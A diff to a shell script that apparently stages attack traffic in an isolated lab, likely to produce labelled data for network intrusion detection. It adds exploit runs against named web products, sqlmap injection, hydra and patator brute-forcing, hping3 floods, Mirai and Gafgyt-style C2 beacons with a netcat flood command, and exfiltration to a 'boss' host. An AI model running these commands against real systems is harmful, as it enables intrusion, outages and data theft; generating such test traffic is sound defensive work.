@@ -117,3 +117,26 @@ lan iodine_mx dns-tunnel desk 203.0.113.71; iodine_mx() { iodined_as MX; }
 lan scapy_mitm arp-spoof rogue 10.66.20.81 $ROGUE_MAC; scapy_mitm() { program plain 30 mitm eth0 10.66.20.81 10.66.20.1 4 26; }
 lan netcut arp-spoof rogue 10.66.20.82 $ROGUE_MAC; netcut() { program plain 25 netcut eth0 02:00:5e:00:2e:52 10.66.20.82 10.66.20.1 15; }
 lan router26 arp-spoof rogue '' $ROGUE_MAC; router26() { on 20 atk6-fake_router26 -A 2001:db8:bad::/64 eth0; }
+
+# Added when the first were told, to see how far what was learnt carries.
+for x in drupal hikvision ivanti gateway cloud_function nas cacti openfire teamcity geoserver vcenter coldfusion; do of web out exploit bad $APP $x 20 $APP; done
+for x in realtek rmi; do of plain out exploit bad2 $APP $x 20 $APP; done
+for x in smuggle templates xxe sqli_hand; do of web out web-attack bad2 $APP $x 30 $APP; done
+out sqlmap_slow web-attack bad $WWW; sqlmap_slow() { sql --technique=BU --delay=0.4 --random-agent; }
+of web out brute-force bad $APP json_logins 40 $APP /login 60
+of plain out brute-force bad2 $STORE smtp_plain 40 $STORE 50
+of plain out brute-force bad $STORE imap_plain 40 $STORE 50
+out patator_ftp brute-force bad2 $STORE; patator_ftp() { on 40 patator ftp_login host=$STORE user=backup password=FILE0 "0=$(words 50)" -t 3; }
+out hydra_ssh_default brute-force bad $BASTION; hydra_ssh_default() { (cd "$LAB_DIR" && on 45 hydra -I -l root -P "$(words 40)" ssh://$BASTION); }
+of plain out dos-flood bad2 $WWW xerxes 20 $WWW 80 24 8
+out igmp dos-flood bad $WWW; igmp() { program plain 20 igmp 198.51.100.45 $WWW 900 7; }
+of plain out dos-flood bad $APP smtp_bodies 20 $APP 20 8
+out hping_default_flood dos-flood bad2 $WWW; hping_default_flood() { on 3 hping3 -q --flood -S -p 443 $WWW; }
+of covert lan c2-beacon desk $BOSS mirai 100 $BOSS 4440 90
+lan gafgyt c2-beacon desk2 $BOSS; gafgyt() { { for i in $(seq 20); do echo PING; sleep 4; [ $((i % 4)) != 0 ] || echo '!* HTTPFLOOD 192.0.2.9 80 60'; done; } | timeout 80 ip netns exec "$LAB_NS-boss" nc -n -l -p 6982 >/dev/null 2>&1 & sleep 1; program covert 75 gafgyt $BOSS 6982 70; wait_for_jobs; }
+of covert lan c2-beacon desk $BOSS metasploit_http 100 $BOSS 90
+of covert lan c2-beacon desk2 $BOSS quasar 110 $BOSS 14433 6 100
+of covert lan c2-beacon desk $BOSS dns_beacon 110 $BOSS 5 100
+of covert lan exfiltration desk $BOSS plain_443 40 $BOSS 4444 14000000
+of covert lan exfiltration desk2 $BOSS pieces_put 40 $BOSS 30 500000
+for x in plain_443 pieces_put; do TOOL_LENGTH[$x]=400; done
